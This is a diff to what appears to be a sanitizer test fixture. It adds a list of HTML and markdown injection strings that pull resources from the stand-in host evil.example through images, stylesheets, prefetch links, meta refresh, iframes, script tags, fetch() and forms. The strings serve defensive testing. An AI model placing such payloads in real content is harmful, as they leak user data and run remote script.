@@ -83,5 +83,26 @@ const mutations = [
   '\u0000\u0001\u0008\u000b\u001f\u007f\u0085\u009f',
 ]
 
+const host = 'https://evil.example'
+
+const leaks = [
+  `<img src="${host}/a.png" srcset="${host}/b.png 2x">`,
+  `![글](${host}/a.png)`,
+  `<link rel=stylesheet href="${host}/a.css"><link rel=prefetch href="${host}"><link rel=dns-prefetch href="${host}">`,
+  `<style>@import url(${host}/a.css);body{background:url(${host}/b.png)}</style>`,
+  `<p style="background:url(${host}/a.png)">글</p><table background="${host}/b.png"><tr><td>글</table>`,
+  `<meta http-equiv=refresh content="0;url=${host}">`,
+  `<iframe src="${host}"></iframe><object data="${host}"></object><embed src="${host}">`,
+  `<video poster="${host}/a.png" src="${host}/a.mp4" autoplay></video><audio src="${host}/a.mp3" autoplay>`,
+  `<picture><source srcset="${host}/a.png"><img src="${host}/b.png"></picture>`,
+  `<svg><image href="${host}/a.png"/><use href="${host}/a.svg#a"/></svg>`,
+  `<script src="${host}/a.js"></script><script>fetch('${host}')</script>`,
+  `<form action="${host}"><input name=a autofocus><button>글</button></form>`,
+  `<body background="${host}/a.png"><input type=image src="${host}/b.png">`,
+]
+
+/** The strings of which a browser itself is asked what it makes. */
+export const worst: readonly string[] = [...mutations, ...leaks]
+
 /** Strings in the spirit of the known cheat sheets; were one carried out, it would say so in `top.executed`. */
-export const vectors: readonly string[] = [...withHandlers, ...withSchemes, ...mutations]
+export const vectors: readonly string[] = [...withHandlers, ...withSchemes, ...mutations, ...leaks]
